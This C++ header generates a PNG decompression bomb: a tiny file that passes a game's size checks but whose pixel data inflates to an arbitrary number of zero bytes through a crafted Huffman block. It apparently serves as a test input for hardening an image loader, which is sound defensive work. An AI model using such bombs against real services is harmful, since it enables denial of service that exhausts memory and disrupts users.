// A PNG that fits the game's limits on file size and image size but whose pixel data inflates to
// far more than its image: a grey image one row high, then zeros to the given count.
#pragma once

#include <cstdint>
#include <string>

inline std::string PngBomb(uint32_t width, uint64_t inflatedBytes) {
    struct Bits {
        std::string bytes;
        int used = 8;
        // Header fields go least significant bit first, Huffman codes most significant first.
        void Put(uint32_t value, int count, bool codeOrder = false) {
            for (int i = 0; i < count; ++i) {
                if (used == 8) bytes.push_back(0), used = 0;
                int bit = codeOrder ? count - 1 - i : i;
                bytes.back() = char(bytes.back() | ((value >> bit) & 1) << used++);
            }
        }
    };
    auto big = [](std::string& to, uint32_t value) {
        for (int shift = 24; shift >= 0; shift -= 8) to.push_back(char(value >> shift));
    };
    // One dynamic Huffman block whose codes are: the literal 0 (10), end of block (11), a copy of
    // 258 bytes (0) at distance 1 (0). Each copy then costs two bits.
    Bits z;
    z.Put(0x0178, 16);  // zlib header, least significant byte first
    z.Put(1, 1), z.Put(2, 2);
    z.Put(286 - 257, 5), z.Put(0, 5), z.Put(18 - 4, 4);
    // Code lengths of the code-length alphabet in its fixed order 16 17 18 0 8 7 9 6 10 5 11 4
    // 12 3 13 2 14 1: 18 (a run of zeros) gets 1 bit, 2 and 1 get 2 bits.
    for (int length : {0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2}) z.Put(length, 3);
    auto zeroRun = [&](int run) { z.Put(0, 1, true), z.Put(run - 11, 7); };
    z.Put(3, 2, true);                     // literal 0: 2 bits
    zeroRun(138), zeroRun(117);            // literals 1..255: unused
    z.Put(3, 2, true);                     // end of block: 2 bits
    zeroRun(28);                           // lengths 257..284: unused
    z.Put(2, 2, true), z.Put(2, 2, true);  // length 258: 1 bit; distance 1: 1 bit
    z.Put(2, 2, true);                     // the literal 0
    uint64_t copies = (inflatedBytes - 1) / 258;
    for (uint64_t i = 0; i < copies; ++i) z.Put(0, 2);
    z.Put(3, 2, true);
    uint64_t inflated = 1 + copies * 258;
    std::string idat = std::move(z.bytes);
    big(idat, uint32_t(inflated % 65521) << 16 | 1);  // Adler-32 of zeros

    auto chunk = [&](std::string& to, const char* type, const std::string& data) {
        big(to, uint32_t(data.size()));
        std::string typed = type + data;
        uint32_t crc = ~0u;
        for (unsigned char c : typed) {
            crc ^= c;
            for (int k = 0; k < 8; ++k) crc = (crc >> 1) ^ (0xedb88320u & (0u - (crc & 1)));
        }
        to += typed;
        big(to, ~crc);
    };
    std::string header;
    big(header, width), big(header, 1);
    header += std::string("\x08\x00\x00\x00\x00", 5);  // 8-bit grey, not interlaced
    std::string png = "\x89PNG\r\n\x1a\n";
    chunk(png, "IHDR", header);
    chunk(png, "IDAT", idat);
    chunk(png, "IEND", "");
    return png;
}
